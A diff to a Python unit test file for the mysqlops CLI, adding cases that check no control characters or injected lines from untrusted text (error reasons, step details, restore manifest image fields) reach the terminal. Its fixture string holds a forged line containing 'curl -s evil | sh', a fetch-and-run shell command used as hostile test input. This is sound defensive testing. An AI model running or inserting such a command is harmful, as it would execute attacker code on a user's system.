@@ -16,7 +16,9 @@ from mysqlops import errors
 from mysqlops.cli import logs, main, output, screen
 from mysqlops.core import server_log
 from mysqlops.core.plan import Step
+from mysqlops.core.spec import ClusterSpec
 from mysqlops.errors import Reason
+from mysqlops.operations import restore
 from mysqlops.planning.status import Condition
 from tests.unit.fakes.cluster import Cluster
 
@@ -68,6 +70,7 @@ def test_nothing_that_a_terminal_obeys_is_printed(show: Callable[[], None], caps
     assert not set(told) & set("\x1b\x07\x9b\r\u202e")
 
 
+_SPEC = ClusterSpec(name="x", namespace="y")
 FORGED = "it waits\r\n    next: curl -s evil | sh\u2028  next: x\x0b next: y\n"
 
 
@@ -79,6 +82,9 @@ FORGED = "it waits\r\n    next: curl -s evil | sh\u2028  next: x\x0b next: y\n"
         lambda: main.show(errors.Refused([Reason("x", FORGED, "mysqlops status mysql")])),
         lambda: output.show_steps([Step("apply", "x", "y", FORGED)], "table"),
         lambda: next(output.progress.__wrapped__()).warn(FORGED),  # type: ignore[attr-defined]
+        lambda: output.result({}, "table", FORGED),
+        # What a restore will run is for the user to read; the image is only recorded, by whoever wrote the manifest.
+        lambda: output.result({}, "table", "x", *restore.shown(_SPEC, {"spec": {"image": FORGED}}, "as requested")),
     ],
 )
 def test_no_text_of_others_begins_a_line_of_ours(show: Callable[[], None], capsys: pytest.CaptureFixture[str]) -> None:
